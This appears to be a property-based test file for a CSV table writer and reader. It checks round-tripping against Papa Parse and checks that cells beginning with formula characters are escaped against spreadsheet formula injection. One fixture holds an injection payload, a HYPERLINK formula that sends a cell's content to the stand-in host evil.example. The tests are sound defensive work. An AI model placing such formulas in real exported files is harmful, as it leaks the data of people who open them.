import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { cellText, readTable, uncell, writeTable } from "../../../lib/tables/csv";

/** Papa Parse is the usual library; it is too much to ship, and an independent judge of what is shipped. */
const cells = fc.string({ unit: fc.constantFrom("a", '"', ",", ";", " ", "\n", "\t", "é", "=", "7", "😀", "＝"), maxLength: 6 });
const tables = fc.array(fc.array(cells, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 6 });

describe("a table", () => {
  test("that was written is read by Papa Parse and by Doorman as it was, but for apostrophes before formulas", () => {
    fc.assert(
      fc.property(tables, (rows) => {
        const text = writeTable(rows);
        const wanted = rows.map((row) => row.map(cellText));
        expect(Papa.parse<string[]>(text, { newline: "\r\n", delimiter: "," }).data.slice(0, -1)).toEqual(wanted);
        expect(readTable(text, ",").slice(0, -1).map((row) => row.cells)).toEqual(wanted);
        expect(wanted.map((row) => row.map(uncell))).toEqual(rows);
      }),
    );
  });

  test("begins no cell with a formula where it is read by semicolons either", () => {
    fc.assert(
      fc.property(tables, (rows) => {
        const text = writeTable(rows);
        const read = [...Papa.parse<string[]>(text, { delimiter: ";" }).data, ...readTable(text, ";").map((row) => row.cells), ...text.split("\n").map((line) => line.split(";"))];
        expect(read.flat().filter((cell) => /^[\s"]*[=+\-@＝]/u.test(cell))).toEqual([]);
      }),
      { numRuns: 500 },
    );
    const forged = writeTable([["Shop;=1+1;", 'Hi\n=HYPERLINK("https://evil.example/?x="&A1,"open")', "a\t@b"]]);
    expect(forged).toContain("Shop;'=1+1;");
    expect(forged).toContain("Hi\n'=HYPERLINK");
    expect(uncell("Shop;'=1+1;")).toBe("Shop;=1+1;");
  });

  test("that Papa Parse wrote is read as it does", () => {
    fc.assert(
      fc.property(tables, (rows) => {
        const read = readTable(Papa.unparse(rows, { newline: "\r\n", delimiter: ";" }), ";");
        expect(read.map((row) => row.cells)).toEqual(rows);
      }),
    );
  });

  test("tells on which line each row begins, also behind a cell of several lines", () => {
    expect(readTable('a,"b\nc"\r\nd\n', ",").map(({ line }) => line)).toEqual([1, 3, 4]);
  });

  test.for(["=1+1", "+1", "-1", "@x", "\t=1", " =1", "＝1", "'=1", '"=1'])("runs no formula: %j", (text) => {
    expect(cellText(text).replace(/([\t\r\n])'/gu, "$1")).toBe(`'${text}`);
    expect(uncell(cellText(text))).toBe(text);
  });
});
